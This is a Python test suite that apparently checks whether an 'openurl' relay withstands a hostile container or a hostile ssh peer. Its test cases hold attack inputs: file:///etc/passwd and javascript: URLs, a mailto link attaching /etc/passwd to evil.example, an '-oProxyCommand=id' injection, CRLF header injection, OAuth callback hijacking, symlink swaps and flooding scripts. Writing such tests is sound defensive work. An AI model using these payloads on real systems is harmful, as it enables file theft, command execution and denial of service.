"""A hostile container has a share's socket, or a hostile machine is at the other end of `openurl ssh`.

It may open web addresses for which there is a rule, and get the callbacks of its own sign-ins. Everything else is harm."""

import glob, os, shutil, signal, socket, time
from attack import *
from callbacks import CALLBACKS, called
from sandboxes import flatpak

BOX = "devbox"
LIMIT = 6  # seconds that a request of another program in the container may wait
# What each program in the container begins with.
PRELUDE = """
import os, socket, sys, time
def connect(path="/run/openurl/socket"):
    relay = socket.socket(socket.AF_UNIX)
    relay.settimeout(20)
    relay.connect(path)
    return relay
def read(relay):
    text = b""
    try:
        while data := relay.recv(65536):
            text += data
    except (ConnectionError, TimeoutError) as error:
        text += type(error).__name__.encode()
    return text.decode(errors="replace")
def ask(request, path="/run/openurl/socket"):
    relay = connect(path)
    try:
        relay.sendall(request if isinstance(request, bytes) else request.encode())
    except ConnectionError:
        pass
    return read(relay)
def open_url(url):
    return ask(f"openurl/1 open {url}\\n")
"""
# A browser that notes each address.
BROWSER = """#!/usr/bin/python3
import sys
with open({log!r}, "a") as file:
    file.write(sys.argv[1] + "\\n")
"""


class Share:
    """A session with a browser, a share, and a rule for its web addresses."""

    def __init__(self, session, rule=True, name=BOX):
        self.session, self.name = session, name
        session.begin()
        self.log = f"{session.root}/browser.log"
        browser = f"{session.root}/browser"
        with open(browser, "w") as file:
            file.write(BROWSER.format(log=self.log))
        os.chmod(browser, 0o755)
        with open(f"{session.root}/data/applications/browser.desktop", "w") as file:
            file.write(f"[Desktop Entry]\nType=Application\nName=Browser\nExec={browser} %u\n"
                       "MimeType=x-scheme-handler/http;x-scheme-handler/https;text/plain;text/html;\n")
        session.run("openurl", "reload")
        if rule:
            self.allow("https")
        self.directory = self.add(name)

    def add(self, name):
        run = self.session.run("openurl", "share", name)
        if run.status != 0:
            raise RuntimeError(f"openurl share: {run}")
        return f"{self.session.environment['XDG_RUNTIME_DIR']}/openurl/shares/{name}"

    def allow(self, scheme, source=None):
        run = self.session.run("openurl", "policy", "allow", "--source", source or f"container:{self.name}", scheme)
        if run.status != 0:
            raise RuntimeError(f"openurl policy: {run}")

    def opened(self):
        return lines(self.log)

    def command(self, code, *binds, writable=False):
        """Returns the command that runs Python code in the container."""
        if not shutil.which("bwrap"):
            raise Skip("bwrap is not installed")
        words = ["bwrap", "--unshare-user", "--unshare-pid", "--unshare-net", "--die-with-parent", "--ro-bind", "/usr", "/usr"]
        for name in ["bin", "lib", "lib64", "sbin"]:
            words += ["--symlink", f"usr/{name}", f"/{name}"]
        words += ["--proc", "/proc", "--dev", "/dev", "--tmpfs", "/tmp"]
        words += ["--bind" if writable else "--ro-bind", self.directory, "/run/openurl"]
        for outside, inside in binds:
            words += ["--bind", outside, inside]
        return words + [PYTHON, "-c", PRELUDE + code]

    def inside(self, code, *binds, writable=False, limit=40):
        """Runs Python code in the container, and returns what it prints."""
        run = self.session.run(*self.command(code, *binds, writable=writable), limit=limit)
        if run.status != 0:
            raise RuntimeError(f"in the container: {run.errors[-300:]}")
        return run.output.strip()

    def start_inside(self, code, *binds):
        """Starts Python code in the container, and waits for its first line."""
        process, line = self.session.first_line(*self.command(code, *binds))
        return process, line

    @property
    def process(self):
        """The process of the share."""
        for status in glob.glob("/proc/[0-9]*/cmdline"):
            try:
                words = open(status, "rb").read().split(b"\0")
                environment = open(os.path.dirname(status) + "/environ", "rb").read()
            except (FileNotFoundError, ProcessLookupError, PermissionError):
                continue
            if b"--foreground" in words and self.name.encode() in words and self.session.root.encode() in environment:
                return int(status.split("/")[2])
        return None

    def memory(self):
        with open(f"/proc/{self.process}/statm") as file:
            return int(file.read().split()[1]) * 4

    def ask_all(self, requests):
        """Sends requests from one container, and returns the answers."""
        return self.inside(f"for request in {requests!r}:\n    print(repr(ask(request)))").splitlines()

    def is_served(self, path="served"):
        """Whether another program gets its address opened through the share in time."""
        code = PRELUDE + f"\nprint(ask('openurl/1 open https://ok.example/{path}\\n', {self.directory + '/socket'!r}))"
        begin = time.monotonic()
        self.session.run(PYTHON, "-c", code)
        return f"https://ok.example/{path}" in self.opened() and time.monotonic() - begin < LIMIT


@attack("relay", "opens an address that a rule allows (the check of the attacks themselves)")
def itself(session):
    share = Share(session)
    answer = share.inside("print(open_url('https://ok.example/'))")
    return answer != "opened" or share.opened() != ["https://ok.example/"], f"{answer}, {share.opened()}"


# Addresses


def addresses(words, urls, handler=False):
    @attack("relay", f"opens {words}")
    def run(session):
        share = Share(session)
        victim = session.swift().start() if handler else None
        before = len(victim.urls()) if victim else 0
        secret = f"{session.root}/secret.txt"
        with open(secret, "w") as file:
            file.write(SECRET)
        answers = set(share.ask_all([f"openurl/1 open {url.replace('SECRET', secret)}\n" for url in urls]))
        harm = share.opened() or victim and len(victim.urls()) > before
        return bool(harm), f"{len(urls)} URLs: {short(sorted(answers), 100)}, opened: {share.opened()}"


@attack("relay", "opens an address before the person has agreed")
def unasked(session):
    share = Share(session, rule=False)
    answer = share.inside("print(open_url('https://evil.example/'))")
    return bool(share.opened()), short(answer)


addresses("a file", ["file://SECRET", "file:SECRET", "file://localhostSECRET", "FILE://SECRET", "file:///etc/passwd"])
addresses("a script", ["javascript:alert(1)", "data:text/html,<script>1</script>".replace("<", "%3C").replace(">", "%3E"),
                       "JavaScript:alert(1)", "vbscript:x", "about:blank", "blob:https://a/1", "view-source:https://a/"])
addresses("a handler's URL", ["victim:?evil", "victim://host/evil", "VICTIM:?evil", "vIcTiM:?evil"], handler=True)
addresses("a program of the system", ["mailto:x@evil.example?attach=/etc/passwd", "tel:112", "ssh://evil.example/", "settings:",
                                      "x-terminal:id", "apt:evil", "steam://run/1"])
addresses("http, for which there is no rule", ["http://evil.example/", "HTTP://evil.example/", "http:/evil.example/"])


@attack("relay", "answers the call of another program")
def answers_call(session):
    serial, victim, success = called(session)
    share = Share.__new__(Share)
    share.session, share.name, share.log = session, BOX, f"{session.root}/browser.log"
    share.allow("https")
    share.directory = share.add(BOX)
    answer = share.inside(f"print(open_url({success + '?from=container'!r}))")
    try:
        found = session.bus.answer(serial, 2)[0].get("reply")
    except (BusError, NoAnswer):
        found = None
    return bool(found), f"{short(answer, 60)}, the caller gets {found}"


# Callbacks of others


def waiting(session, pattern, state):
    """Lets a program of the user wait for a callback."""
    session.bus.call(CALLBACKS, "Request", "ssa{sv}", ["", pattern, {"state": ["s", state]}])
    session.bus.watch("type='signal',interface='org.openurl.Callback1'")


@attack("relay", "sends a callback to a program of the user")
def sends_callback(session):
    share = Share(session)
    waiting(session, "login://auth", "s1")
    answer = share.inside("print(open_url('login://auth?code=evil&state=s1'))")
    session.bus.call("org.freedesktop.DBus.Peer", "Ping")
    ended = [message for message in session.bus.waiting if message.member == "Completed"]
    return bool(ended), f"{short(answer, 80)}, the program got {len(ended)} callbacks"


def waits(words, redirect, state="&state=s1", deliver=None):
    @attack("relay", f"waits for {words}")
    def run(session):
        share = Share(session)
        victim = session.swift().start()
        waiting(session, "login://auth", "s1")
        url = f"https://ok.example/?redirect_uri={redirect}{state}"
        code = f"""
relay = connect()
relay.sendall(b"openurl/1 callback {url}\\n")
relay.settimeout(4)
print("asked", flush=True)
print(read(relay), flush=True)
"""
        process, _ = share.start_inside(code)
        wait_until(lambda: process.poll() is not None or share.opened(), 4)
        if deliver:
            session.run("openurl", deliver)
        text = process.communicate()[0].decode()
        return SECRET in text, f"{short(text, 100)}"


waits("the callbacks of a handler", "victim%3A%2F%2Fauth", deliver=f"victim://auth?code={SECRET}&state=s1")
waits("the callback for which a program of the user waits", "login%3A%2F%2Fauth", deliver=f"login://auth?code={SECRET}&state=s1")
waits("the addresses of a bank", "https%3A%2F%2Fok.example%2F", deliver=f"https://ok.example/?code={SECRET}&state=s1")
waits("the URLs of a scheme, without a state", "other%3A%2F%2Fauth", "", deliver=f"other://auth?code={SECRET}")
waits("the URLs of a scheme with another state", "other%3A%2F%2Fauth", deliver=f"other://auth?code={SECRET}&state=s2")
waits("files", "file%3A%2F%2F%2Fetc", deliver="file:///etc/passwd?state=s1")


# Ports


def listening(before=()):
    """The addresses at which something of this machine listens."""
    found = set()
    for table in ["/proc/net/tcp", "/proc/net/tcp6"]:
        for line in lines(table)[1:]:
            words = line.split()
            if words[3] == "0A":
                found.add(words[1])
    return found - set(before)


def free_port():
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


LOOPBACK = {"0100007F", "00000000000000000000000001000000"}


@attack("relay", "makes the share listen for other machines")
def listens_elsewhere(session):
    share, before = Share(session), listening()
    answers, bad = [], set()
    for host in ["0.0.0.0", "[::]", "127.0.0.1@evil.example", "localhost.evil.example", "192.168.0.1", "127.0.0.2", "*"]:
        process, answer = share.start_inside(f"""
relay = connect()
relay.sendall(b"openurl/1 open https://ok.example/?state=s&redirect_uri=http%3A%2F%2F{host}%3A{free_port()}%2F\\n")
relay.settimeout(3)
print(relay.recv(1000).decode().strip(), flush=True)
time.sleep(0.5)
""")
        bad |= {address for address in listening(before) if address.partition(":")[0] not in LOOPBACK}
        process.kill()
        answers.append(answer)
    return bool(bad), f"{short(sorted(set(answers)))}, other addresses: {sorted(bad)}"


@attack("relay", "takes a port of the system")
def system_port(session):
    share, before = Share(session), listening()
    answers, taken = set(), set()
    for port in [80, 22, 443, 631, 1023]:
        process, answer = share.start_inside(f"""
relay = connect()
relay.sendall(b"openurl/1 open https://ok.example/?state=s&redirect_uri=http%3A%2F%2F127.0.0.1%3A{port}%2F\\n")
relay.settimeout(3)
print(relay.recv(1000).decode().strip(), flush=True)
time.sleep(0.3)
""")
        taken |= {int(address.rpartition(":")[2], 16) for address in listening(before)} & {80, 22, 443, 631, 1023}
        process.kill()
        answers.add(answer)
    return bool(taken), f"{short(sorted(answers))}, taken: {sorted(taken)}"


@attack("relay", "reaches a server of this machine through the callback's port")
def reaches_server(session):
    share, got = Share(session), []
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(3)
    port = server.getsockname()[1]
    answer = share.inside(f"""
print(ask("openurl/1 open https://ok.example/?state=s&redirect_uri=http%3A%2F%2F127.0.0.1%3A{port}%2F\\n"))
try:
    socket.create_connection(("127.0.0.1", {port}), 2)
    print("CONNECTED")
except OSError:
    pass
""")
    try:
        got.append(server.accept())
    except TimeoutError:
        pass
    return bool(got) or "CONNECTED" in answer, f"{short(answer)}, connections: {len(got)}"


def at_port(share, requests):
    """Lets the container wait at a port, and sends requests there. Returns what reaches the container, and the answers."""
    port = free_port()
    process, line = share.start_inside(f"""
relay = connect()
relay.sendall(b"openurl/1 open https://ok.example/?state=s1&redirect_uri=http%3A%2F%2F127.0.0.1%3A{port}%2Fdone\\n")
relay.settimeout(4)
print(relay.recv(15).decode().strip(), flush=True)
print(read(relay), flush=True)
""")
    if line != "opened-waiting":
        raise RuntimeError(f"the container does not wait: {line}")
    answers = []
    for request in requests:
        with socket.create_connection(("127.0.0.1", port), 3) as browser:
            browser.sendall(request.replace("PORT", str(port)).encode())
            browser.settimeout(2)
            try:
                answers.append(browser.recv(1000).decode().partition("\r\n")[0])
            except (TimeoutError, ConnectionError) as error:
                answers.append(type(error).__name__)
    return process.communicate()[0].decode(), answers


@attack("relay", "reads what other programs send to the callback's port")
def reads_port(session):
    heads = [f"GET /{SECRET} HTTP/1.1\r\nHost: 127.0.0.1:PORT\r\n\r\n",
             f"POST /done?state=s1 HTTP/1.1\r\nHost: 127.0.0.1:PORT\r\nContent-Length: 9\r\n\r\n{SECRET}",
             f"GET /done?code={SECRET}&state=s2 HTTP/1.1\r\nHost: 127.0.0.1:PORT\r\n\r\n",
             f"GET /done?code={SECRET}&state=s1 HTTP/1.1\r\nHost: evil.example:PORT\r\n\r\n"]
    text, answers = at_port(Share(session), heads)
    return SECRET in text, f"{short(text.strip())}, answers: {short(answers)}"


@attack("relay", "gets the browser's headers with a callback")
def headers(session):
    head = f"GET /done?state=s1 HTTP/1.1\r\nHost: 127.0.0.1:PORT\r\nCookie: {SECRET}\r\nAuthorization: {SECRET}\r\n\r\n"
    text, answers = at_port(Share(session), [head])
    return SECRET in text or "callback " not in text, f"{short(text.strip())}, answers: {answers}"


@attack("relay", "gets lines of its choice through a callback, as a hostile page")
def injects(session):
    heads = ["GET /done?code=1%0d%0aX-Evil:%201%0a%0dfailed%200&state=s1 HTTP/1.1\r\nHost: 127.0.0.1:PORT\r\n\r\n",
             "GET /done?code=1\nfailed&state=s1 HTTP/1.1\r\nHost: 127.0.0.1:PORT\r\n\r\n"]
    text, answers = at_port(Share(session), heads[::-1])
    got = text.strip().splitlines()
    harm = len(got) != 1 or not got[0].startswith("callback http://127.0.0.1:") or "\r" in text
    return harm, f"{short(got)}, answers: {short(answers)}"


# The protocol


@attack("relay", "hides a second request behind the first")
def hides(session):
    share = Share(session)
    answers = share.ask_all([
        "openurl/1 open https://ok.example/1\nopenurl/1 open https://ok.example/2\n",
        "openurl/1 open https://ok.example/3\r\nopenurl/1 open https://ok.example/4\n",
        "openurl/1 open https://ok.example/5 https://ok.example/6\n"])
    return bool(share.opened()), f"{short(answers)}, opened: {share.opened()}"


@attack("relay", "sends controls in a URL")
def controls(session):
    share = Share(session)
    numbers = [0, 7, 8, 9, 11, 27, 127, 155, 0x202E]
    answers = set(share.ask_all([f"openurl/1 open https://ok.example/{chr(number)}x\n" for number in numbers]))
    raw = [c for c in session.log_text() if c in "\x07\x08\x0b\x1b\x7f\u202e"]
    return bool(share.opened()) or bool(raw), f"{short(answers)}, in the log: {raw}"


@attack("relay", "sends a URL of 100 MB")
def overlong(session):
    share = Share(session)
    before = share.memory()
    answer = share.inside("""
relay = connect()
sent = 0
try:
    relay.sendall(b"openurl/1 open https://ok.example/")
    for _ in range(100):
        relay.sendall(b"a" * (1 << 20))
        sent += 1
except OSError as error:
    print(sent, type(error).__name__)
""")
    grown = share.memory() - before
    return grown > 8 << 10 or not share.is_served(), f"{short(answer)} MB sent, grown by {grown} KiB"


@attack("relay", "sends half a request on each connection and waits", limit=60)
def slow(session):
    share = Share(session)
    process, _ = share.start_inside("""
relays = []
for _ in range(200):
    relay = connect()
    relay.send(b"openurl/1 open https://ok")
    relays.append(relay)
print("ready", flush=True)
time.sleep(40)
""")
    other = session.run("openurl", "https://polite.example/")
    return other.status != 0 or "https://polite.example/" not in share.opened(), f"another program: {other}"


@attack("relay", "sends requests one byte at a time for ever", limit=60)
def drip(session):
    share = Share(session)
    answer = share.inside("""
relay, begin = connect(), time.monotonic()
try:
    for byte in b"openurl/1 open https://ok.example/" + b"a" * 1000:
        relay.send(bytes([byte]))
        time.sleep(0.2)
except OSError:
    pass
print(round(time.monotonic() - begin))
""")
    return int(answer) > 10, f"the connection ended after {answer} s"


@attack("relay", "opens 2,000 connections")
def many(session):
    share = Share(session)
    before = session.descriptors(share.process)
    process, held = share.start_inside("""
relays = []
for _ in range(900):
    try:
        relays.append(connect())
    except OSError:
        break
print(len(relays), flush=True)
time.sleep(30)
""")
    grown = session.descriptors(share.process) - before
    process.kill()
    process.wait()
    return grown > 64 or not wait_until(lambda: share.is_served("after"), 10), f"{held} connections, {grown} descriptors"


@attack("relay", "floods the share with requests", limit=90, alone=True)
def flood(session):
    share = Share(session)
    process, _ = share.start_inside("""
import threading
def run():
    end = time.monotonic() + 20
    while time.monotonic() < end:
        try:
            open_url("https://flood.example/")
        except OSError:
            pass
threads = [threading.Thread(target=run) for _ in range(20)]
for thread in threads:
    thread.start()
print("ready", flush=True)
""")
    time.sleep(3)
    begin = time.monotonic()
    run = session.run("openurl", "can-open", "https://polite.example/")
    took = time.monotonic() - begin
    process.kill()
    return run.status != 0 or took > 5, f"another program was served in {took:.1f} s, {len(share.opened())} addresses opened"


@attack("relay", "asks for the person's answer to 100 addresses at once")
def questions(session):
    share = Share(session, rule=False)
    answer = share.inside("""
import threading
answers = []
threads = [threading.Thread(target=lambda n=n: answers.append(open_url(f"https://ask{n}.example/"))) for n in range(30)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
print(len(answers))
""")
    other = session.run("openurl", "https://polite.example/")
    return other.status != 0, f"{answer} answers, another program: {other}"


@attack("relay", "does not read the answers")
def unread(session):
    share = Share(session)
    process, _ = share.start_inside("""
relays = []
for _ in range(20):
    relay = connect()
    relay.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
    relay.sendall(b"openurl/1 open nothing:" + b"a" * 60000 + b"\\n")
    relays.append(relay)
print("ready", flush=True)
time.sleep(20)
""")
    served = share.is_served()
    return not served, f"another program is served: {served}"


@attack("relay", "waits for as many callbacks as it can")
def all_waits(session):
    share = Share(session)
    ports = [free_port() for _ in range(40)]
    before = listening()
    process, held = share.start_inside(f"""
relays = []
for port in {ports}:
    relay = connect()
    relay.sendall(f"openurl/1 open https://ok.example/?state=s&redirect_uri=http%3A%2F%2F127.0.0.1%3A{{port}}%2F\\n".encode())
    relay.settimeout(5)
    if relay.recv(15).startswith(b"opened-waiting"):
        relays.append(relay)
print(len(relays), flush=True)
time.sleep(30)
""")
    taken = len({address.rpartition(":")[2] for address in listening(before)})
    return taken > 8 or not share.is_served(), f"{held} waits, {taken} ports taken"


@attack("relay", "passes descriptors along")
def descriptors(session):
    share = Share(session)
    before = session.descriptors(share.process)
    share.inside("""
import array
relays = []
for _ in range(20):
    relay = connect()
    files = [os.open("/dev/null", os.O_RDONLY) for _ in range(50)]
    relay.sendmsg([b"openurl/1 "], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", files))])
    for file in files:
        os.close(file)
    relays.append(relay)
time.sleep(0.5)
""")
    grown = session.descriptors(share.process) - before
    return grown > 40 or not share.is_served(), f"the share has {grown} more descriptors"


@attack("relay", "sends 3,000 random requests")
def random_bytes(session):
    share = Share(session)
    process = share.process
    share.inside("""
import random
for number in range(3000):
    text = bytearray(b"openurl/1 open https://x.example/\\n" if number % 2 else random.randbytes(40))
    for _ in range(random.randrange(1, 5)):
        text[random.randrange(len(text))] = random.randrange(256)
    try:
        relay = connect()
        relay.sendall(text)
        relay.shutdown(socket.SHUT_RDWR)
        relay.close()
    except OSError:
        time.sleep(0.01)
""", limit=60)
    bad = [url for url in share.opened() if not url.lower().startswith("https:")]
    harm = share.process != process or bool(bad) or not share.is_served()
    return harm, f"the share runs: {share.process == process}, opened: {len(share.opened())}, others: {bad}"


# The share itself


@attack("relay", "uses the share of another container")
def other_container(session):
    share = Share(session)
    process, line = share.start_inside("print(open_url('https://ok.example/mine').strip(), flush=True)\ntime.sleep(20)")
    answer = share.inside("""
for _ in range(20):
    try:
        print(open_url('https://ok.example/stolen'))
    except OSError as error:
        print(type(error).__name__)
    time.sleep(0.05)
""")
    process.kill()
    return line != "opened" or "https://ok.example/stolen" in share.opened(), f"{short(sorted(set(answer.split())))}"


@attack("relay", "gives itself the name of another container")
def other_name(session):
    share = Share(session, rule=False)
    share.allow("https", "container:trusted")
    share.allow("https", "host:trusted")
    answers = share.ask_all([
        "openurl/1 open https://evil.example/?container=trusted\n", "openurl/1 container:trusted https://evil.example/\n",
        "openurl/1 open https://evil.example/ container:trusted\n", "openurl/1 open:container:trusted https://evil.example/\n"])
    return bool(share.opened()), f"{short(answers)}"


@attack("relay", "uses a connection after the share has ended")
def after_end(session):
    share = Share(session)
    process, line = share.start_inside("""
relay = connect()
print("connected", flush=True)
time.sleep(2)
try:
    relay.sendall(b"openurl/1 open https://ok.example/late\\n")
    print(read(relay))
except OSError as error:
    print(type(error).__name__)
""")
    stop = session.run("openurl", "share", "--stop", BOX)
    text = process.communicate()[0].decode().strip()
    return stop.status != 0 or bool(share.opened()), f"stop: {stop}, {short(text)}"


@attack("relay", "puts links into the share's place")
def links(session):
    share = Share(session)
    victim = f"{session.root}/victim.txt"
    with open(victim, "w") as file:
        file.write("kept")
    share.inside(f"""
for name in ["socket", "openurl-remote", "xdg-open", ".openurl-remote", "control"]:
    try:
        os.unlink("/run/openurl/" + name)
    except FileNotFoundError:
        pass
    os.symlink({victim!r}, "/run/openurl/" + name)
""", writable=True)
    session.run("openurl", "share", "--stop", BOX)
    if share.process:
        os.kill(share.process, signal.SIGKILL)
    wait_until(lambda: share.process is None)
    run = session.run("openurl", "share", BOX)
    text = open(victim).read() if os.path.exists(victim) else "gone"
    return text != "kept" or run.status != 0, f"the file: {text}, the next share: {run}"


@attack("relay", "puts a link into the place of the share's directory")
def directory_link(session):
    session.begin()
    elsewhere = f"{session.root}/elsewhere"
    os.mkdir(elsewhere, 0o700)
    for name in ["socket", "xdg-open"]:
        with open(f"{elsewhere}/{name}", "w") as file:
            file.write("kept")
    shares = f"{session.environment['XDG_RUNTIME_DIR']}/openurl/shares"
    os.makedirs(shares, 0o700)
    os.symlink(elsewhere, f"{shares}/{BOX}")
    run = session.run("openurl", "share", BOX)
    kept = sorted(os.listdir(elsewhere)) == ["socket", "xdg-open"]
    return run.status == 0 or not kept, f"{run}, the other directory is unchanged: {kept}"


@attack("relay", "makes 'share --stop' end another process")
def stops_other(session):
    session.begin()
    directory = f"{session.environment['XDG_RUNTIME_DIR']}/openurl/shares/{BOX}"
    os.makedirs(directory, 0o700)
    # A program of another kind listens there.
    victim = session.start(PYTHON, "-c", f"""
import socket, time
server = socket.socket(socket.AF_UNIX)
server.bind({directory + "/socket"!r})
server.listen()
time.sleep(30)
""")
    wait_until(lambda: os.path.exists(f"{directory}/socket"))
    time.sleep(0.2)
    run = session.run("openurl", "share", "--stop", BOX)
    return not is_alive(victim.pid), f"{run}, the other process runs: {is_alive(victim.pid)}"


@attack("relay", "has a name that leads elsewhere")
def names(session):
    session.begin()
    runs = {name: session.run("openurl", "share", name).status for name in [
        "../lane", "a/b", ".", "..", "-x", "a\nb", "a b", "a\x1b[2J", "x" * 65, "é", ""]}
    made = glob.glob(f"{session.environment['XDG_RUNTIME_DIR']}/openurl/**", recursive=True)
    bad = [path for path in made if not path.rstrip("/").endswith(("openurl", "shares")) and "lane-" not in path and "logged-in" not in path]
    return any(status == 0 for status in runs.values()) or bool(bad), f"statuses: {sorted(set(runs.values()))}, made: {bad}"


@attack("relay", "calls the router's relay interface from a sandbox")
def interface(session):
    share = Share(session)
    client = flatpak(session)
    words = [said(client.call("org.openurl.Relay1", "OpenURL", "ssa{sv}", f"container:{BOX}", "https://evil.example/", {})),
             said(client.call("org.openurl.Relay1", "RequestCallback", "ssa{sv}", f"container:{BOX}", "https://evil.example/", {})),
             said(client.call("org.openurl.Relay1", "CanOpenURL", "ss", f"container:{BOX}", "https://evil.example/"))]
    return "answered" in words or bool(share.opened()), f"{words}"


@attack("relay", "names a class or every caller as its place (a program of the user)")
def places(session):
    share = Share(session, rule=False)
    share.allow("https", "user")
    words = {place: attempt(lambda: session.bus.call("org.openurl.Relay1", "OpenURL", "ssa{sv}", [place, "https://evil.example/", {}]))
             for place in ["user", "*", "handler", "com.example.victim", "app:x", "host:", "host:a b", "", "container:"]}
    return "answered" in words.values() or bool(share.opened()), f"{sorted(set(words.values()))}"


@attack("relay", "reads what schemes the machine opens")
def schemes(session):
    share = Share(session)
    session.swift()
    asked = ["victim:", "file:///etc/passwd", "mailto:x", "openurl-reply://x/success", "no-such-scheme:"]
    answers = share.ask_all([f"openurl/1 can-open {url}\n" for url in asked])
    # The advice in the message has the scheme.
    opens = [answer[:9] for answer in share.ask_all([f"openurl/1 open {url}\n" for url in asked])]
    return set(answers) != {repr("no\n")} or len(set(opens)) != 1, f"{answers}, {opens}"


# A hostile machine at the other end of ssh


def far(session, script):
    """Runs `openurl ssh` with a far end that a script plays. Returns the run, and the words that ssh got."""
    share = Share(session)
    log, directory = f"{session.root}/ssh.log", f"{session.root}/fake"
    os.mkdir(directory)
    with open(f"{directory}/ssh", "w") as file:
        file.write(f"#!/bin/sh\necho \"$*\" >>{log}\ncase \"$*\" in *' -M '*) ;; *) exit 0;; esac\n{script}\n")
    os.chmod(f"{directory}/ssh", 0o755)
    run = session.run("openurl", "ssh", "box", "true", environment={"PATH": f"{directory}:{session.environment['PATH']}"}, limit=25)
    return share, run, lines(log)


@attack("relay", "leads ssh's forwarding elsewhere, as the far end of ssh")
def far_forward(session):
    words = ["8080:localhost:22", "/tmp/x:127.0.0.1:22", "/tmp/x\\ -L8080:localhost:22", "-oProxyCommand=id", "0.0.0.0:1"]
    script = "\n".join(f"echo 'openurl-far x86_64 {place} yes'" for place in words) + "\nread x"
    _, run, calls = far(session, f"{script} & sleep 1; exit 0")
    bad = [call for call in calls if "-O" in call.split()]
    return bool(bad), f"{run}, forwardings: {bad}"


@attack("relay", "sends output without end, as the far end of ssh")
def far_output(session):
    _, run, _ = far(session, "head -c 300000000 /dev/zero")
    return str(run.status).startswith("none"), f"{run}"


@attack("relay", "writes controls to the terminal, as the far end of ssh")
def far_controls(session):
    _, run, _ = far(session, r"printf 'openurl-far \033[2J\007 /tmp/a no\nopenurl-far mips /tmp/a no\n'; read x")
    raw = [c for c in run.output + run.errors if c in "\x1b\x07"]
    return bool(raw), f"{run}, controls: {raw}"


@attack("relay", "uses the socket of an ssh session, as another program")
def far_socket(session):
    share = Share(session)
    share.allow("https", "host:box")
    directory, log = f"{session.root}/fake", f"{session.root}/answers"
    os.mkdir(directory)
    run_dir = session.environment["XDG_RUNTIME_DIR"]
    with open(f"{directory}/ssh", "w") as file:
        file.write("#!/bin/sh\ncase \"$*\" in *' -M '*) echo 'openurl-far none /tmp/a yes'; read n; echo 'openurl-far ready'; read x;;\n"
                   "*) sleep 6;; esac\n")
    os.chmod(f"{directory}/ssh", 0o755)
    process = session.start("openurl", "ssh", "box", "true", environment={"PATH": f"{directory}:{session.environment['PATH']}"})
    if not wait_until(lambda: glob.glob(f"{run_dir}/openurl/ssh-*/socket")):
        raise RuntimeError("there is no session")
    path = glob.glob(f"{run_dir}/openurl/ssh-*/socket")[0]
    answers = []
    for command in [[PYTHON], share.command("", (os.path.dirname(path), "/run/other"))[:-1]]:
        target = path if command == [PYTHON] else "/run/other/socket"
        code = PRELUDE + f"\ntry:\n    print(ask('openurl/1 open https://evil.example/\\n', {target!r}))\nexcept OSError as error:\n    print(error)"
        command = [PYTHON, "-c", code] if command == [PYTHON] else command + [code]
        answers.append(session.run(*command).output.strip())
    process.kill()
    return bool(share.opened()), f"{answers}"
